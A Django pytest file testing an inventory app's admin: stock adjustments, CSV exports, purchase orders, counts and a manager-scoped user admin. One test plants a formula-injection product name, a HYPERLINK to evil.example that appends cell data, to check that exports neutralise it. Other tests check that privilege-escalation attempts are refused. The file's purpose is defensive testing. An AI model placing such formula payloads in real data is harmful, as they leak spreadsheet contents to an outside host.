import csv
import io
from decimal import Decimal

import pytest
from django.apps import apps
from django.contrib import admin
from django.contrib.admin.helpers import ACTION_CHECKBOX_NAME
from django.contrib.auth.models import Group, Permission, User

from inventory import services
from inventory.models import Product, PurchaseOrder, StockCount, StockLevel, StockMove, Supplier
from inventory.services import PurchaseLineInput
from inventory.tests.factories import LocationFactory, ProductFactory, StaffProfileFactory, UserFactory

pytestmark = pytest.mark.django_db

INLINE_ONLY = {"RecipeLine", "PurchaseOrderLine", "StockCountLine"}


@pytest.fixture
def browser(client, manager):
    client.force_login(manager)
    return client


def action(browser, model: str, name: str, ids, **extra):
    return browser.post(
        f"/admin/inventory/{model}/", {"action": name, ACTION_CHECKBOX_NAME: [str(pk) for pk in ids], **extra}
    )


def test_every_inventory_model_has_an_admin_screen_or_inline():
    registered = {model.__name__ for model in admin.site._registry if model._meta.app_label == "inventory"}
    every = {model.__name__ for model in apps.get_app_config("inventory").get_models()}
    assert every - INLINE_ONLY <= registered


def test_stock_moves_are_read_only_in_the_admin(browser, stocked):
    move = StockMove.objects.first()

    assert browser.get("/admin/inventory/stockmove/").status_code == 200
    assert browser.get("/admin/inventory/stockmove/add/").status_code == 403
    browser.post(f"/admin/inventory/stockmove/{move.pk}/change/", {"delta": "99"})
    assert browser.post(f"/admin/inventory/stockmove/{move.pk}/delete/", {"post": "yes"}).status_code == 403
    move.refresh_from_db()
    assert move.delta == 10


def test_a_manager_adjusts_stock_with_a_reason_from_the_stock_list(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    form = action(browser, "stocklevel", "adjust", [level.pk])
    assert b"Adjust stock" in form.content
    action(browser, "stocklevel", "adjust", [level.pk], apply="1", reason="Crate found", **{f"delta-{level.pk}": "3"})

    level.refresh_from_db()
    assert level.on_hand == 13
    assert StockMove.objects.get(reason=StockMove.Reason.ADJUSTMENT).note == "Crate found"


def test_an_admin_adjustment_with_a_bad_quantity_changes_nothing_and_says_why(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    response = action(
        browser, "stocklevel", "adjust", [level.pk], apply="1", reason="Oops", **{f"delta-{level.pk}": "-50"}
    )

    assert b"Nothing was changed" in response.content
    level.refresh_from_db()
    assert level.on_hand == 10


def test_stock_on_hand_and_valuation_export_as_csv(browser, stocked, location):
    level = StockLevel.objects.get(product=stocked, location=location)

    on_hand = action(browser, "stocklevel", "export_on_hand", [level.pk])
    valuation = action(browser, "stocklevel", "export_valuation", [level.pk])

    assert on_hand["Content-Type"].startswith("text/csv")
    assert on_hand.content.decode().splitlines()[1] == f"main,{stocked.sku},{stocked.barcode},Lemonade,10.000,pc"
    assert valuation.content.decode().splitlines()[1] == f"main,{stocked.sku},Lemonade,10.000,4.0000,40.00"


def test_stock_exports_neutralise_formulas_and_keep_negative_quantities_as_numbers(browser, location):
    hostile = ProductFactory(
        name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
        sku="@SUM(1+1)",
        cost=Decimal("1.50"),
        stock_policy=Product.StockPolicy.ALLOW,
    )
    services.adjust_stock(product=hostile, location=location, delta="-2", reason="Miscount", user=None)
    level = StockLevel.objects.get(product=hostile, location=location)

    on_hand = action(browser, "stocklevel", "export_on_hand", [level.pk])
    valuation = action(browser, "stocklevel", "export_valuation", [level.pk])

    on_hand_row = next(csv.reader(io.StringIO(on_hand.content.decode().splitlines()[1])))
    valuation_row = next(csv.reader(io.StringIO(valuation.content.decode().splitlines()[1])))
    assert on_hand_row[1] == "'@SUM(1+1)"
    assert on_hand_row[3] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert on_hand_row[4] == "-2.000"
    assert valuation_row[1:6] == ["'@SUM(1+1)", on_hand_row[3], "-2.000", "1.5000", "-3.00"]


def test_receiving_a_purchase_order_from_the_admin_books_the_stock(browser, stocked, location):
    order = services.create_purchase_order(
        supplier=Supplier.objects.create(name="Fizz"),
        location=location,
        lines=[PurchaseLineInput(stocked, "5", "4.00")],
    )

    action(browser, "purchaseorder", "receive_outstanding", [order.pk])
    second = action(browser, "purchaseorder", "receive_outstanding", [order.pk])

    order.refresh_from_db()
    assert order.status == PurchaseOrder.Status.RECEIVED
    assert StockLevel.objects.get(product=stocked, location=location).on_hand == 15
    assert second.status_code == 302
    assert StockMove.objects.filter(reason=StockMove.Reason.PURCHASE, reference__startswith="po:").count() == 1


def test_a_count_started_counted_and_posted_in_the_admin_is_posted_once(browser, stocked, location):
    action(browser, "location", "start_count", [location.pk])
    count = StockCount.objects.get()
    line = count.lines.get()
    response = browser.post(
        f"/admin/inventory/stockcount/{count.pk}/change/",
        {
            "note": "",
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "1",
            "lines-MIN_NUM_FORMS": "0",
            "lines-MAX_NUM_FORMS": "1000",
            "lines-0-id": str(line.pk),
            "lines-0-stock_count": str(count.pk),
            "lines-0-counted": "6",
        },
    )
    assert response.status_code == 302
    line.refresh_from_db()
    assert line.counted == 6

    action(browser, "stockcount", "post", [count.pk])
    action(browser, "stockcount", "post", [count.pk])

    count.refresh_from_db()
    assert count.status == StockCount.Status.POSTED
    assert StockLevel.objects.get(product=stocked, location=location).on_hand == 6
    assert StockMove.objects.filter(reason=StockMove.Reason.COUNT).count() == 1


def test_products_are_found_in_the_admin_by_name_prefix_and_barcode(browser):
    ProductFactory(name="Oat milk", barcode="5000000000017")
    ProductFactory(name="Soap")

    assert b"Oat milk" in browser.get("/admin/inventory/product/", {"q": "oat"}).content
    assert b"Oat milk" in browser.get("/admin/inventory/product/", {"q": "5000000000017"}).content
    assert b"Oat milk" not in browser.get("/admin/inventory/product/", {"q": "soap"}).content


def test_the_low_stock_alerts_are_listed_for_managers(browser, location):
    product = ProductFactory(name="Milk", reorder_point=Decimal(5))
    services.adjust_stock(product=product, location=location, delta="1", reason="Opening stock")
    services.record_low_stock_alerts()

    assert b"Milk" in browser.get("/admin/inventory/lowstockalert/").content


def test_a_negative_counted_quantity_in_the_admin_is_refused_with_a_message(browser, stocked, location):
    action(browser, "location", "start_count", [location.pk])
    count = StockCount.objects.get()
    line = count.lines.get()

    response = browser.post(
        f"/admin/inventory/stockcount/{count.pk}/change/",
        {
            "note": "",
            "lines-TOTAL_FORMS": "1",
            "lines-INITIAL_FORMS": "1",
            "lines-MIN_NUM_FORMS": "0",
            "lines-MAX_NUM_FORMS": "1000",
            "lines-0-id": str(line.pk),
            "lines-0-stock_count": str(count.pk),
            "lines-0-counted": "-4",
        },
        follow=True,
    )

    assert b"Nothing was saved" in response.content
    line.refresh_from_db()
    assert line.counted is None


# --- the user admin for managers (issue 15) ----------------------------------------------------------------------


def _staff_at(location, username: str, role: str = "Cashier"):
    user = UserFactory(username=username, role=role)
    StaffProfileFactory(user=user).locations.add(location)
    return user


def _user_form(user, **changes) -> dict:
    data = {
        "username": user.username,
        "first_name": user.first_name,
        "last_name": user.last_name,
        "email": user.email,
        "is_active": "on",
        "groups": [str(pk) for pk in user.groups.values_list("pk", flat=True)],
        "date_joined_0": user.date_joined.strftime("%Y-%m-%d"),
        "date_joined_1": user.date_joined.strftime("%H:%M:%S"),
        "initial-date_joined_0": user.date_joined.strftime("%Y-%m-%d"),
        "initial-date_joined_1": user.date_joined.strftime("%H:%M:%S"),
    }
    data.update(changes)
    return data


def _refused(response) -> bool:
    """The admin answers a user a manager may not see as missing: 404, or back to the index with a message."""
    return response.status_code in (403, 404) or (
        response.status_code == 302 and "/change/" not in response["Location"]
    )


def test_a_manager_cannot_open_change_or_set_the_password_of_a_superuser(browser):
    owner = User.objects.create_superuser("owner", "owner@example.com", "owner-pass-123")
    base = f"/admin/auth/user/{owner.pk}"

    listed = browser.get("/admin/auth/user/").content.decode()
    opened = browser.get(f"{base}/change/")
    password_page = browser.get(f"{base}/password/")
    set_password = browser.post(
        f"{base}/password/", {"password1": "taken-over-123", "password2": "taken-over-123", "usable_password": "true"}
    )
    changed = browser.post(f"{base}/change/", _user_form(owner, is_active=""))

    owner.refresh_from_db()
    assert ">owner<" not in listed
    assert _refused(opened) and _refused(password_page) and _refused(set_password) and _refused(changed)
    assert owner.check_password("owner-pass-123") and owner.is_active


def test_a_manager_cannot_grant_superuser_staff_or_permissions(browser, location):
    waiter = _staff_at(location, "waiter2", "Waiter")
    permission = Permission.objects.get(codename="change_group")

    browser.post(
        f"/admin/auth/user/{waiter.pk}/change/",
        _user_form(waiter, is_superuser="on", is_staff="on", user_permissions=[str(permission.pk)]),
    )

    waiter.refresh_from_db()
    assert not waiter.is_superuser and not waiter.is_staff
    assert not waiter.user_permissions.exists()


def test_a_manager_cannot_grant_a_group_above_their_own(browser, location):
    waiter = _staff_at(location, "waiter2", "Waiter")
    owners = Group.objects.create(name="Owners")
    owners.permissions.add(Permission.objects.get(codename="change_group"))

    browser.post(f"/admin/auth/user/{waiter.pk}/change/", _user_form(waiter, groups=[str(owners.pk)]))

    assert not waiter.groups.filter(name="Owners").exists()
    assert "Owners" not in browser.get("/admin/auth/user/add/").content.decode()


def test_a_manager_cannot_see_or_edit_staff_of_another_store(browser, location):
    elsewhere = _staff_at(LocationFactory(code="north", name="North"), "north-cashier")

    listed = browser.get("/admin/auth/user/").content.decode()
    opened = browser.get(f"/admin/auth/user/{elsewhere.pk}/change/")
    set_password = browser.post(
        f"/admin/auth/user/{elsewhere.pk}/password/",
        {"password1": "taken-over-123", "password2": "taken-over-123", "usable_password": "true"},
    )

    elsewhere.refresh_from_db()
    assert "north-cashier" not in listed
    assert _refused(opened) and _refused(set_password)
    assert elsewhere.check_password("secret-pass-123")


def test_a_manager_creates_a_cashier_at_their_store(browser, location):
    cashiers = Group.objects.get(name="Cashier")

    response = browser.post(
        "/admin/auth/user/add/",
        {
            "username": "new-cashier",
            "password1": "a-long-pass-4821",
            "password2": "a-long-pass-4821",
            "usable_password": "true",
            "groups": [str(cashiers.pk)],
            "locations": [str(location.pk)],
        },
    )

    assert response.status_code == 302, response.content.decode()[:2000]
    created = User.objects.get(username="new-cashier")
    assert list(created.groups.values_list("name", flat=True)) == ["Cashier"]
    assert list(created.staff.locations.all()) == [location]
    assert not created.is_staff and not created.is_superuser
    assert browser.get(f"/admin/auth/user/{created.pk}/change/").status_code == 200


def test_a_superuser_keeps_the_full_user_admin(client, location):
    owner = User.objects.create_superuser("owner", "owner@example.com", "owner-pass-123")
    client.force_login(owner)

    page = client.get(f"/admin/auth/user/{owner.pk}/change/").content.decode()

    assert 'name="is_superuser"' in page and 'name="user_permissions"' in page


def test_a_manager_cannot_move_staff_of_another_store_into_their_own_through_the_staff_profile(browser, location):
    elsewhere = _staff_at(LocationFactory(code="north", name="North"), "north-cashier")
    profile = elsewhere.staff
    path = f"/admin/staff/staffprofile/{profile.pk}/change/"

    opened = browser.get(path)
    browser.post(path, {"user": str(elsewhere.pk), "locations": [str(location.pk)]})

    assert _refused(opened)
    assert list(profile.locations.values_list("code", flat=True)) == ["north"]


def test_a_manager_cannot_set_the_password_of_deactivate_or_demote_a_peer_manager(browser, location):
    peer = _staff_at(location, "peer", "Manager")
    base = f"/admin/auth/user/{peer.pk}"

    listed = browser.get("/admin/auth/user/").content.decode()
    opened = browser.get(f"{base}/change/")
    set_password = browser.post(
        f"{base}/password/", {"password1": "taken-over-123", "password2": "taken-over-123", "usable_password": "true"}
    )
    changed = browser.post(f"{base}/change/", _user_form(peer, is_active="", groups=[], locations=[str(location.pk)]))

    peer.refresh_from_db()
    assert ">peer<" not in listed
    assert _refused(opened) and _refused(set_password) and _refused(changed)
    assert peer.check_password("secret-pass-123") and peer.is_active
    assert peer.groups.filter(name="Manager").exists()


def test_a_manager_edits_their_own_name_but_never_their_own_role_stores_or_active_flag(browser, manager, location):
    other = LocationFactory(code="north", name="North")

    browser.post(
        f"/admin/auth/user/{manager.pk}/change/",
        _user_form(manager, first_name="Ada", is_active="", groups=[], locations=[str(other.pk)]),
    )

    manager.refresh_from_db()
    assert manager.first_name == "Ada"
    assert manager.is_active and manager.groups.filter(name="Manager").exists()
    assert list(manager.staff.locations.all()) == [location]


def test_the_store_admin_groups_identity_pricing_receipt_text_and_money_controls(browser, location):
    page = browser.get(f"/admin/inventory/location/{location.pk}/change/")

    assert page.status_code == 200
    html = page.content.decode()
    for heading in ("Business identity (printed on receipts)", "Pricing", "Receipt text", "Money controls"):
        assert heading in html
    for field in ("legal_name", "tax_id", "address", "service_charge_base", "cash_rounding", "max_tip"):
        assert f'name="{field}"' in html
    admin_form = page.context["adminform"]
    shown = {name for fieldset in admin_form for line in fieldset for field in line for name in [field.field.name]}
    editable = {f.name for f in location._meta.concrete_fields if f.editable and not f.primary_key}
    assert editable <= shown  # no store setting is left off the screen
